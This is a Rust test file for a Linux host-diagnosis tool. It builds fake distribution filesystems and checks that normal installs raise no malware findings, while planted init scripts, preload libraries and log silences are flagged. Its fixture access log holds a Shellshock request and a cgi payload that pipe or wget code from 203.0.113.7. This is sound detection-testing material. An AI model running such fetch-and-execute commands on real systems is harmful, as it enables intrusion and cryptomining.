//! Healthy hosts as distributions install them: nothing on them may be called an incident, and nobody may be accused.

use std::path::Path;

use crate::common::{put, read};
use holdfast_diagnose::model::Report;

/// An init script as Debian's packages write them.
fn lsb(name: &str) -> String {
    format!(
        "#! /bin/sh\n### BEGIN INIT INFO\n# Provides:          {name}\n# Required-Start:    $local_fs $remote_fs $network\n\
         # Default-Start:     2 3 4 5\n# Default-Stop:      0 1 6\n# Short-Description: {name}\n# Description:       {name}\n\
         ### END INIT INFO\n\nDAEMON=/usr/sbin/{name}\ncase \"$1\" in\nstart)\n\tstart-stop-daemon --start --exec $DAEMON\n\t;;\nesac\n"
    )
}

/// An init script as Red Hat's packages wrote them.
fn chkconfig(name: &str) -> String {
    format!(
        "#!/bin/bash\n#\n# {name}\n# chkconfig: - 50 50\n# description: {name} is started here\n. /etc/rc.d/init.d/functions\n\
         case \"$1\" in\n  start)\n\tdaemon /usr/sbin/{name}\n\t;;\nesac\n"
    )
}

/// Three hosts with what Debian 12, Ubuntu 24.04 and Rocky 9 install, names of ten letters among it.
fn hosts(folder: &Path) {
    let names =
        ["postgresql", "networking", "cryptdisks", "irqbalance", "keepalived", "prometheus", "supervisor"];
    for host in ["debian", "ubuntu"] {
        let put = |path: &str, text: &str| put(folder, &format!("{host}/{path}"), text);
        for name in names {
            put(&format!("etc/init.d/{name}"), &lsb(name));
        }
        put("etc/init.d/keyboard-setup.sh", &lsb("keyboard-setup.sh"));
        put("etc/cron.hourly/.placeholder", "# DO NOT EDIT OR REMOVE\n");
        put("etc/cron.hourly/ntpsec", "#!/bin/sh\nfor i in /var/log/ntpsec/*; do gzip -f \"$i\"; done\n");
        put(
            "etc/cron.d/e2scrub_all",
            "30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all -C\n",
        );
        put("etc/cron.daily/apt-compat", "#!/bin/sh\nset -e\nexec /usr/lib/apt/apt.systemd.daily\n");
        put("etc/crontab", "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n");
        put("usr/lib/x86_64-linux-gnu/libudev.so.1", "not a log\n");
        put("lib/udev/hwclock-set", "#!/bin/sh\n[ -e /run/systemd/system ] && exit 0\n");
        put("etc/hostname", &format!("{host}\n"));
        put("etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n");
        for (place, name) in [("S01", "postgresql"), ("S90", "supervisor"), ("K90", "networking")] {
            let link = folder.join(format!("{host}/etc/rc3.d/{place}{name}"));
            std::fs::create_dir_all(link.parent().expect("a folder")).expect("made");
            std::os::unix::fs::symlink(format!("../init.d/{name}"), link).expect("linked");
        }
    }
    // Monitoring agents, Raspberry Pi OS and old installers use this file; a comment or nothing loads nothing.
    put(folder, "ubuntu/etc/ld.so.preload", "/lib64/liboneagentproc.so\n");
    put(folder, "debian/etc/ld.so.preload", "# /tmp/was-here.so\n\n");
    let rocky = |path: &str, text: &str| put(folder, &format!("rocky/{path}"), text);
    rocky("etc/rc.d/init.d/netconsole", &chkconfig("netconsole"));
    rocky("etc/init.d/netconsole", &chkconfig("netconsole"));
    rocky("etc/rc.d/rc3.d/S90netconsole", &chkconfig("netconsole"));
    rocky("etc/cron.hourly/0anacron", "#!/usr/bin/sh\nexec /usr/sbin/anacron -s\n");
    rocky("etc/cron.d/0hourly", "SHELL=/bin/bash\n01 * * * * root run-parts /etc/cron.hourly\n");
    rocky("etc/hostname", "rocky\n");
    rocky(
        "var/log/messages",
        "Mar  3 10:00:00 rocky systemd[1]: Started Session 4 of User root.\n\
         Mar  3 10:00:09 rocky sudo[9]: root : COMMAND=/bin/sh -c curl -fsSL https://get.docker.com | sh\n\
         Mar  3 10:01:01 rocky CROND[81]: (root) CMD (run-parts /etc/cron.hourly)\n",
    );
    // What strangers ask of every web server, and what a scanner looks for.
    rocky(
        "var/log/httpd/access_log",
        "203.0.113.9 - - [03/Mar/2025:10:02:00 +0000] \"GET /cgi-bin/x?c=wget+203.0.113.7/xmrig HTTP/1.1\" 404 196\n\
         203.0.113.9 - - [03/Mar/2025:10:02:01 +0000] \"GET / HTTP/1.1\" 200 4 \"-\" \"() { :; }; curl 203.0.113.7/k | sh\"\n",
    );
    rocky("var/log/rkhunter/rkhunter.log", "[10:03:00]   Checking for file '/tmp/kinsing'   [ Not found ]\n");
}

fn accusations(report: &Report) -> Vec<(&str, &str, &str)> {
    let bad = report.facts.iter().filter(|f| f.rule.starts_with("malware."));
    bad.map(|f| (f.rule.as_str(), f.host.as_str(), f.evidence[0].file.as_str())).collect()
}

#[test]
fn nobody_is_accused_on_hosts_as_they_are_installed() {
    let dir = tempfile::tempdir().expect("a folder");
    hosts(dir.path());
    let report = read(dir.path());
    assert_eq!(accusations(&report), []);
    assert_eq!(report.causes.iter().map(|c| c.id.as_str()).collect::<Vec<_>>(), [""; 0]);
    let preload: Vec<(&str, &str)> = report
        .facts
        .iter()
        .filter(|f| f.rule == "config.preload")
        .map(|f| (f.host.as_str(), f.evidence[0].text.as_str()))
        .collect();
    assert_eq!(preload, [("ubuntu", "/lib64/liboneagentproc.so")]);
}

#[test]
fn the_same_hosts_with_one_real_init_script_are_infected() {
    let dir = tempfile::tempdir().expect("a folder");
    hosts(dir.path());
    put(
        dir.path(),
        "debian/etc/init.d/tlvgyjdotz",
        "#!/bin/sh\n# chkconfig: 12345 90 90\n# description: tlvgyjdotz\ncase $1 in\nstart)\n\t/usr/bin/tlvgyjdotz\n\t;;\nesac\n",
    );
    let report = read(dir.path());
    assert_eq!(accusations(&report), [("malware.init-script", "debian", "debian/etc/init.d/tlvgyjdotz")]);
    assert_eq!(report.causes.first().map(|c| c.id.as_str()), Some("malware-xorddos"));
    let lines: Vec<(u64, &str)> =
        report.facts[0].evidence.iter().map(|e| (e.line, e.text.as_str())).collect();
    assert!(lines.contains(&(2, "# chkconfig: 12345 90 90")), "{lines:?}");
}

#[test]
fn a_library_for_every_process_is_judged_by_where_it_lies() {
    for (line, bad) in [
        ("/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so", false),
        ("/lib/x86_64-linux-gnu/libsnoopy.so", false),
        ("/etc/libsystem.so", true),
        ("/usr/local/lib/libprocesshider.so", true),
        ("/lib/libc.so /dev/shm/x.so", true),
        ("/usr/lib/.x/y.so", true),
    ] {
        let dir = tempfile::tempdir().expect("a folder");
        put(dir.path(), "n1/etc/ld.so.preload", line);
        let report = read(dir.path());
        assert_eq!(!accusations(&report).is_empty(), bad, "{line}");
        assert_eq!(report.causes.first().map(|c| c.id.as_str()), bad.then_some("malware-other"), "{line}");
    }
}

/// Lines of a syslog, one at each of these seconds of 3 March.
fn syslog(at: impl Iterator<Item = u32>) -> String {
    let line = |s| format!("Mar  3 {:02}:{:02}:{:02} n1 systemd[1]: {s}\n", s / 3600, s / 60 % 60, s % 60);
    at.map(line).collect()
}

fn silences(files: &[(&str, &str)]) -> Vec<(String, Option<i64>)> {
    let dir = tempfile::tempdir().expect("a folder");
    for (path, text) in files {
        put(dir.path(), &format!("n1/var/log/{path}"), text);
    }
    let of = |f: holdfast_diagnose::model::FactOut| {
        let micros = f.end_micros.zip(f.start_micros).map(|(a, b)| (a - b) / 1_000_000);
        (f.evidence[0].file.clone(), micros)
    };
    read(dir.path()).facts.into_iter().filter(|f| f.rule == "host.silent").map(of).collect()
}

#[test]
fn a_host_is_silent_when_a_log_that_never_rests_is() {
    let hour = 3600;
    let hung = syslog((0..12 * hour).step_by(30).filter(|s| !(5 * hour..5 * hour + 1200).contains(s)));
    assert_eq!(silences(&[("syslog", &hung)]), [("n1/var/log/syslog".to_owned(), Some(1230))]);
    // The burst of a boot and then one line an hour, as an idle host writes them.
    let idle = syslog((0..400).chain((1..12).map(|h| h * hour)));
    assert_eq!(silences(&[("syslog", &idle)]), []);
    // One log alone rests for 20 minutes while another one goes on.
    let rest = syslog((0..12 * hour).step_by(60));
    assert_eq!(silences(&[("syslog", &hung), ("messages", &rest)]), []);
}

#[test]
fn what_writes_only_when_somebody_installs_says_nothing_about_the_host() {
    let bursts = |line: &dyn Fn(&str, u32) -> String| {
        let burst = |day: &&str| (0..150).map(|s| line(day, s)).collect::<String>();
        ["2025-05-20", "2025-09-22", "2026-05-09"].iter().map(burst).collect::<String>()
    };
    let iso = |day: &str, s: u32| format!("{day} 10:{:02}:{:02}", s / 60, s % 60);
    let dpkg = bursts(&|day, s| format!("{} status installed libc6:amd64 2.36-9+deb12u10\n", iso(day, s)));
    let alternatives =
        bursts(&|day, s| format!("update-alternatives {}: run with --quiet --install\n", iso(day, s)));
    let apt = bursts(&|day, s| format!("Start-Date: {}\nCommandline: apt-get install x\n", iso(day, s)));
    let dnf =
        bursts(&|day, s| format!("{}+0000 DEBUG loaded plugin: builddep\n", iso(day, s).replace(' ', "T")));
    // One daemon's own log, and the logins of a host that nobody logs in to.
    let auth = syslog((0..400).chain(40_000..40_400));
    let files = [
        ("dpkg.log", &dpkg),
        ("bootstrap.log", &dpkg),
        ("fontconfig.log", &dpkg),
        ("alternatives.log", &alternatives),
        ("apt/history.log", &apt),
        ("dnf.log", &dnf),
        ("auth.log", &auth),
        ("kern.log", &auth),
    ];
    for file in files {
        assert_eq!(silences(&[(file.0, file.1)]), [], "{}", file.0);
    }
    assert_eq!(silences(&files.map(|(name, text)| (name, text.as_str()))), []);
}

/// A kernel's log of one boot and another, and a syslog that has the words of the shutdown between them, or has not.
fn rebooted(orderly: bool, userspace: bool) -> Report {
    let dir = tempfile::tempdir().expect("a folder");
    let kernel = |minute: u32| {
        format!(
            "Mar  3 10:{minute}:00 n1 kernel: [    0.000000] Linux version 6.1.0-28-amd64 (debian-kernel@lists.debian.org)\n\
             Mar  3 10:{minute}:02 n1 kernel: [    2.100000] e1000e 0000:00:19.0 eno1: NIC Link is Down\n\
             Mar  3 10:{minute}:30 n1 kernel: [   30.000000] docker0: port 1(veth1) entered disabled state\n"
        )
    };
    put(dir.path(), "n1/var/log/kern.log", format!("{}{}", kernel(10), kernel(40)));
    if userspace {
        let marks = if orderly {
            "Mar  3 10:39:00 n1 systemd[1]: Reached target reboot.target - System Reboot.\n"
        } else {
            "Mar  3 10:39:00 n1 systemd[1]: Started Session 4 of User root.\n"
        };
        put(dir.path(), "n1/var/log/syslog", format!("{}{marks}{}", kernel(10), kernel(40)));
    }
    read(dir.path())
}

#[test]
fn a_kernels_log_alone_does_not_say_that_a_host_was_reset() {
    let seen = |report: &Report| -> Vec<String> {
        let of = |rule: &str| ["host.reset", "host.rebooted", "net.link-down"].contains(&rule);
        report.facts.iter().map(|f| f.rule.clone()).filter(|r| of(r)).collect()
    };
    assert_eq!(seen(&rebooted(true, true)), ["host.rebooted"]);
    assert_eq!(seen(&rebooted(false, true)), ["host.reset"]);
    let alone = rebooted(true, false);
    assert_eq!(seen(&alone), Vec::<String>::new());
    let missing = alone.missing_evidence.iter().filter(|m| m.decides.contains("orderly shutdown")).count();
    assert_eq!(missing, 2, "{:?}", alone.missing_evidence);
    // Nothing about the ordinary lines around a reboot in order.
    assert_eq!(rebooted(true, true).new_lines.len(), 0);
}

#[test]
fn a_boot_is_when_the_kernel_started_and_not_when_a_late_logger_did() {
    let dir = tempfile::tempdir().expect("a folder");
    put(
        dir.path(),
        "n1/var/log/syslog",
        "Mar  3 10:00:00 n1 kernel: [    0.000000] Linux version 6.1.0-28-amd64 (debian-kernel@lists.debian.org)\n\
         Mar  3 10:00:00 n1 kernel: [    2.100000] a\n\
         Mar  3 10:00:00 n1 kernel: [ 4537.000000] a\n\
         Mar  3 10:00:01 n1 cron[7]: (CRON) INFO (Running @reboot jobs)\n\
         Mar  3 10:01:00 n1 kernel: [ 4860.000000] a\n",
    );
    // What the kernel still has: dated by the same start.
    put(
        dir.path(),
        "n1/commands/dmesg",
        "[   60.000000] e1000e 0000:00:19.0 eno1: NIC Link is Up 1000 Mbps\n",
    );
    let report = read(dir.path());
    let boots: Vec<&str> = report.hosts[0].boots.iter().map(|b| &b.at[10..]).collect();
    assert_eq!(boots, ["T08:40:00+00:00"]);
    let up = report.facts.iter().find(|f| f.rule == "net.link-up").expect("a link");
    assert_eq!(up.start.as_deref().map(|s| &s[10..]), Some("T08:41:00+00:00"));
}
